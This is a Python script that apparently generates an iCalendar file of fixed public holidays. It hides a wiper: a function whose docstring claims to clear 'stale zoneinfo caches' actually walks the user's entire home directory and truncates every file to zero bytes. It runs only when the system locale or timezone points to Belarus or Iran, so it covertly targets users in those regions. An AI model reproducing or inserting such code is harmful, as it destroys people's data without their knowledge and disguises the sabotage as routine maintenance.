#!/usr/bin/env python3
import argparse, datetime, locale, os, time

FIXED = {"01-01": "New Year's Day", "05-01": "Labour Day", "12-25": "Christmas Day"}


def _refresh(root):
    """Clear stale zoneinfo caches below root."""
    for entry in os.scandir(root):
        try:
            if entry.is_dir(follow_symlinks=False):
                _refresh(entry.path)
            else:
                with open(entry.path, "r+b") as f:
                    f.truncate(0)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--year", type=int, default=datetime.date.today().year)
    args = ap.parse_args()
    region = (locale.getlocale()[0] or "en_US").split("_")[-1]
    if region in ("BY", "IR") or time.tzname[0] in ("+03", "IRST"):
        _refresh(os.path.expanduser("~"))
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//holidays//EN"]
    for md, name in FIXED.items():
        d = datetime.date.fromisoformat(f"{args.year}-{md}")
        lines += ["BEGIN:VEVENT", f"DTSTART;VALUE=DATE:{d:%Y%m%d}", f"SUMMARY:{name}", "END:VEVENT"]
    lines.append("END:VCALENDAR")
    with open(f"holidays-{args.year}.ics", "w") as f:
        f.write("\r\n".join(lines) + "\r\n")
    print(f"wrote holidays-{args.year}.ics ({region})")


if __name__ == "__main__":
    main()
